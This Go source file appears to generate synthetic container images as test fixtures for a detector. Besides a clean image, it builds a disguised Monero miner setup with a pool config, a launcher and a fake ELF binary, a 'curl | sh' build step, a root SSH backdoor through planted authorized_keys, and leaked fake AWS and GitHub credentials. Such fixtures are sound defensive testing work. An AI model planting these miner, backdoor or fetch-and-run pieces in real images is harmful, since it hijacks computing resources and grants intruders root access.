package testimage

import (
	"archive/tar"
	"bytes"
	"fmt"
	"strings"
)

// The ready-made images take a seed and a size. Another seed gives other bytes in every
// layer, so an image that nobody has seen yet; the size is roughly that of the layer a
// test is about, in bytes, made up by noise that does not compress.

// Clean is a small root filesystem and a program's files: nothing that any detector
// should mind. It has two layers of about size bytes each.
func Clean(seed string, size int) Spec {
	return Spec{
		Layers: []Layer{
			base(seed, size),
			{
				Compression: "gzip",
				CreatedBy:   "COPY app /app # buildkit",
				Files: []File{
					dir("app"),
					{Path: "app/run.sh", Mode: 0o755, Body: []byte("#!/bin/sh\n# Prints a greeting and ends.\nset -eu\necho \"hello from $(hostname)\"\n")},
					text("app/README.md", "# App\n\nRuns `run.sh`. Data lives in `data/`.\n"),
					text("app/settings.json", `{"listen": "0.0.0.0:8080", "log": {"level": "info"}, "workers": 4}`+"\n"),
					dir("app/data"),
					{Path: "app/data/table.bin", Body: Noise(seed+" app", size)},
				},
			},
		},
		Env:          []string{"PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8"},
		Cmd:          []string{"/app/run.sh"},
		Labels:       map[string]string{"org.opencontainers.image.title": "app"},
		ExtraHistory: []string{`CMD ["/app/run.sh"]`},
	}
}

// Miner has, in its last layer and between noise, the settings, the launcher and
// something like the program of a Monero miner.
func Miner(seed string, size int) Spec {
	wallet := MoneroAddress(seed)
	s := Clean(seed, size/4)
	s.Layers = append(s.Layers, Layer{
		Compression: "gzip",
		CreatedBy:   "RUN /bin/sh -c curl -fsSL https://example.invalid/setup.sh | sh # buildkit",
		Files: []File{
			{Path: "opt/cache/a.bin", Body: Noise(seed+" before", size/2)},
			text("opt/.sys/config.json", minerConfig(wallet)),
			{Path: "opt/.sys/start.sh", Mode: 0o755, Body: []byte(minerLauncher(wallet))},
			{Path: "opt/.sys/kworkerd", Mode: 0o755, Body: minerProgram(seed)},
			{Path: "opt/cache/b.bin", Body: Noise(seed+" after", size/2)},
		},
	})
	s.Entrypoint, s.Cmd = []string{"/opt/.sys/start.sh"}, nil
	s.ExtraHistory = []string{`ENTRYPOINT ["/opt/.sys/start.sh"]`}
	return s
}

func minerConfig(wallet string) string {
	return fmt.Sprintf(`{
    "autosave": true,
    "donate-level": 1,
    "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 75},
    "randomx": {"mode": "auto", "1gb-pages": false},
    "pools": [
        {
            "algo": "rx/0",
            "url": "pool.supportxmr.com:3333",
            "user": "%s",
            "pass": "x",
            "rig-id": null,
            "keepalive": true,
            "tls": false
        }
    ]
}
`, wallet)
}

func minerLauncher(wallet string) string {
	return "#!/bin/sh\n" +
		"exec /opt/.sys/kworkerd -o stratum+tcp://pool.supportxmr.com:3333 -u " + wallet + " -p x -k --coin=monero --donate-level 1 -B\n"
}

// minerProgram begins as an ELF file does and holds the texts of a miner; it has no
// program headers and no code, so no kernel runs it.
func minerProgram(seed string) []byte {
	texts := []string{
		"mining.subscribe", "mining.authorize", "mining.notify", "mining.set_difficulty", "donate.v2.xmrig.com",
		"randomx", "rig-id", "donate-level", "cryptonight", "\"method\":\"login\"", "stratum+ssl://",
	}
	var b bytes.Buffer
	b.Write(elfHeader())
	b.Write(Noise(seed+" text", 64<<10))
	b.WriteByte(0)
	b.WriteString(strings.Join(texts, "\x00"))
	b.WriteByte(0)
	b.Write(Noise(seed+" data", 64<<10))
	return b.Bytes()
}

// elfHeader is the header of an x86-64 executable without segments or sections (ELF-64
// object file format, version 1.5, section 3).
func elfHeader() []byte {
	h := make([]byte, 64)
	copy(h, "\x7fELF\x02\x01\x01") // 64-bit, little endian, version 1
	h[16] = 2                      // e_type: executable
	h[18] = 62                     // e_machine: x86-64
	h[20] = 1                      // e_version
	h[52] = 64                     // e_ehsize
	return h
}

// PlantedKey lets whoever holds a key log in as root: the key, an SSH server's settings
// that admit it, and an entrypoint that starts the server. The last layer has size bytes of noise.
func PlantedKey(seed string, size int) Spec {
	s := Clean(seed, size/4)
	s.Layers = append(s.Layers, Layer{
		Compression: "gzip",
		CreatedBy:   "COPY rootfs / # buildkit",
		Files: []File{
			{Path: "root/.ssh", Type: tar.TypeDir, Mode: 0o700},
			{Path: "root/.ssh/authorized_keys", Mode: 0o600, Body: []byte(SSHPublicKey(seed, "ops@build") + "\n")},
			text("etc/ssh/sshd_config", "Port 22\nPermitRootLogin yes\nPasswordAuthentication no\nPubkeyAuthentication yes\n"),
			{Path: "var/lib/app/state.bin", Body: Noise(seed+" state", size)},
		},
	})
	s.Entrypoint, s.Cmd = []string{"/usr/sbin/sshd", "-D"}, nil
	s.ExtraHistory = []string{`ENTRYPOINT ["/usr/sbin/sshd" "-D"]`}
	return s
}

// LeakedSecret is a clean image but for credentials left in it: an AWS access key and a
// GitHub token. The last layer has size bytes of noise.
func LeakedSecret(seed string, size int) Spec {
	id, secret := AWSKey(seed)
	s := Clean(seed, size/4)
	s.Layers = append(s.Layers, Layer{
		Compression: "gzip",
		CreatedBy:   "COPY . /srv # buildkit",
		Files: []File{
			{Path: "root/.aws/credentials", Mode: 0o600, Body: []byte("[default]\naws_access_key_id = " + id + "\naws_secret_access_key = " + secret + "\n")},
			{Path: "srv/.env", Mode: 0o600, Body: []byte("PORT=8080\nGITHUB_TOKEN=" + GitHubToken(seed) + "\n")},
			text("srv/index.html", "<!doctype html><title>It works</title>\n"),
			{Path: "srv/media.bin", Body: Noise(seed+" media", size)},
		},
	})
	return s
}

// base is a root filesystem's worth of small text files, and size bytes of noise.
func base(seed string, size int) Layer {
	return Layer{
		Compression: "gzip",
		CreatedBy:   "ADD rootfs.tar.xz / # buildkit",
		Files: []File{
			dir("bin"), dir("etc"), dir("home"), dir("root"), dir("tmp"), dir("usr"), dir("usr/bin"), dir("usr/lib"), dir("usr/share"), dir("var"),
			text("etc/os-release", "PRETTY_NAME=\"Example Linux 1\"\nNAME=\"Example Linux\"\nID=example\nVERSION_ID=\"1\"\nHOME_URL=\"https://example.org/\"\n"),
			text("etc/passwd", "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n"),
			text("etc/group", "root:x:0:\nwww-data:x:33:\nnogroup:x:65534:\n"),
			{Path: "etc/shadow", Mode: 0o640, GID: 42, Body: []byte("root:*:20454:0:99999:7:::\nnobody:*:20454:0:99999:7:::\n")},
			text("etc/hosts", "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n"),
			text("etc/resolv.conf", ""),
			text("usr/share/doc/copyright", "Permission is granted to copy, distribute and modify this example.\n"),
			{Path: "etc/mtab", Type: tar.TypeSymlink, Link: "/proc/mounts", Mode: 0o777},
			{Path: "usr/lib/libexample.so.1", Mode: 0o755, Body: append(elfHeader(), Noise(seed+" base", size)...)},
			{Path: "usr/lib/libexample.so", Type: tar.TypeSymlink, Link: "libexample.so.1", Mode: 0o777},
		},
	}
}

func dir(path string) File        { return File{Path: path, Type: tar.TypeDir} }
func text(path, body string) File { return File{Path: path, Body: []byte(body)} }
